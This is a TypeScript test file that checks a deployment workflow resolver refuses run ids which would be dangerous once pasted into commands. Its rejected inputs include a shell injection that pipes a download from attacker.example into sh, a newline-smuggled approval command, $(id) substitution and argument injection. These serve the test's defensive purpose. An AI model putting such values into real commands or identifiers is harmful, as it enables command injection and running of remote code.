/** S8: the id of a run stands in commands that people paste. */

import { fileURLToPath } from 'node:url';
import { expect, it } from 'vitest';
import { createResolver } from '../../src/worker/resolution.ts';

const SAMPLE = fileURLToPath(new URL('../../examples/service', import.meta.url));
const REQUEST = { environment: 'development', servers: ['dev-server-1'], version: 'v1.0.0' };

function resolve(workflowId: string) {
  return createResolver(
    SAMPLE,
    {},
  )({
    templateId: 'deployment_workflow_v1',
    workflowId,
    requestId: 'r',
    inputs: [REQUEST],
  });
}

it.each([
  'rel-1; curl http://attacker.example | sh #',
  'rel-1\nrunsheet approve rel-2',
  'rel-$(id)',
  "rel-1' --by alice",
  '-rf',
  'rel\u202e1',
])('S8 the id %j is refused, since it would be pasted', async (id) => {
  expect(await resolve(id)).toMatchObject({
    ok: false,
    type: 'BAD_REQUEST',
    message: expect.stringContaining('release-42'),
  });
});

it.each(['rel-1', 'shop/quotes@v1.2.0+build.7', '发布-42', '2026-11-26T10:00'])(
  'S8 the id %s is taken',
  async (id) => {
    expect(await resolve(id)).toMatchObject({ ok: true });
  },
);
